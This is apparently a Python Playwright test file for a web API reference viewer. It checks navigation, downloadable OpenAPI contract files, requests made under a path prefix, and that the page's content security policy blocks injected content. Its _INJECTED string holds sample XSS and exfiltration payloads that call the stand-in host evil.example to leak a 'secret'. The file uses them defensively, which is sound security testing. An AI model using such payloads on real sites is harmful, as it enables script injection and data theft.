"""The API reference in a browser: it is complete, and its policy allows nothing else."""

from collections.abc import AsyncIterator

import anyio
import pytest
import yaml
from playwright.async_api import Browser, Page, expect

from tests.support.browser import until, visitor
from tests.support.server import LiveServer
from tests.verify.faults import Fault
from tests.verify.proxy import FaultyProxy

_INJECTED = """
    document.body.insertAdjacentHTML("beforeend", `
      <style>body { display: none !important }</style>
      <img src="x" onerror="window.isOurs = false">
      <img src="https://evil.example/?secret">
      <p id="injected" style="display: none">x</p>`);
    document.body.append(Object.assign(document.createElement("script"), { text: "window.isOurs = false" }));
    document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" }));
    fetch("https://evil.example/?secret").catch(() => {});
"""

_LINES = """() => {
    const name = document.createRange();
    const cells = [...document.querySelectorAll(".markdown td")];
    name.selectNodeContents(cells.find((cell) => cell.textContent === "comment"));
    return name.getClientRects().length;
}"""


@pytest.fixture(scope="module")
async def tab(chromium: Browser, server: LiveServer) -> AsyncIterator[Page]:
    """The reference, complete. To show it takes seconds, so it is opened once."""
    async with visitor(chromium, viewport={"width": 1400, "height": 1000}) as tab:
        await tab.goto(f"{server.url}/docs")
        await until(tab, "document.body.innerText.includes('Send a message and stream the reply')")
        await until(tab, "document.body.innerText.includes('ReplyStream')")
        yield tab


async def test_errors_and_sdks_are_one_click_away(tab: Page) -> None:
    """In the viewer, whose ids are its own."""
    for name in ("Errors", "SDKs"):
        await tab.get_by_role("navigation", name="Parts of the reference").get_by_role("link", name=name).click()
        await expect(tab.get_by_role("heading", name=name, exact=True)).to_be_in_viewport()


async def test_the_page_shows_the_contract_under_its_policy(tab: Page) -> None:
    """With its styles, without other hosts; and injected content has no effect."""
    assert await tab.evaluate("[...document.querySelectorAll('style')].every((style) => style.sheet)")
    assert await tab.evaluate("document.styleSheets.length") >= 4
    assert await tab.evaluate("getComputedStyle(document.querySelector('h1')).fontFamily") != '"Times New Roman"'
    assert await tab.evaluate("violations") == []
    assert await tab.evaluate(_LINES) == 1
    await tab.evaluate("window.isOurs = true; window.violations.length = 0; " + _INJECTED)
    await until(tab, "violations.length >= 6")
    forbidden = {directive for directive, _ in await tab.evaluate("violations")}
    assert forbidden == {
        "style-src-elem",
        "style-src-attr",
        "script-src-attr",
        "script-src-elem",
        "img-src",
        "connect-src",
    }
    assert await tab.evaluate("window.isOurs")
    assert await tab.evaluate("getComputedStyle(document.body).display") != "none"
    assert await tab.evaluate("getComputedStyle(document.getElementById('injected')).display") != "none"


async def test_every_form_of_the_contract_is_offered(chromium: Browser, server: LiveServer) -> None:
    """For tools with and without OpenAPI 3.2 support; also on a phone, and without JavaScript."""
    async with visitor(chromium, java_script_enabled=False, viewport={"width": 390, "height": 844}) as tab:
        await tab.goto(f"{server.url}/docs")
        links = tab.get_by_role("navigation", name="The contract as a file").get_by_role("link")
        await expect(links).to_have_text(["3.2 YAML", "3.2 JSON", "3.1 JSON"])
        versions = []
        for link in await links.all():
            await expect(link).to_be_in_viewport(ratio=1)
            async with tab.expect_download() as download:
                await link.click()
            content = await anyio.Path(await (await download.value).path()).read_text("utf-8")
            versions.append(yaml.load(content, Loader=yaml.CSafeLoader)["openapi"][:3])
        assert versions == ["3.2", "3.2", "3.1"]


async def test_below_a_path_the_viewer_asks_below_it(chromium: Browser, server: LiveServer) -> None:
    """Its examples and its own requests use the URL of the page."""
    async with FaultyProxy(server.port, Fault(), prefix="/some/where") as proxy, visitor(chromium) as tab:
        asked: list[str] = []
        tab.on("request", lambda request: asked.append(request.url))
        await tab.goto(f"{proxy.url}/docs")
        await tab.get_by_role("link", name="Send a message and stream the reply").click()
        await until(tab, f"document.body.innerText.includes('curl {proxy.url}/api/chat ')")
        await tab.get_by_role("button", name="Test Request").first.click()
        async with tab.expect_response(f"{proxy.url}/api/chat") as answer:
            await tab.get_by_role("button", name="Send").last.click()
        assert (await answer.value).status == 200
        assert all(url.startswith((f"{proxy.url}/", "data:", "blob:")) for url in asked)
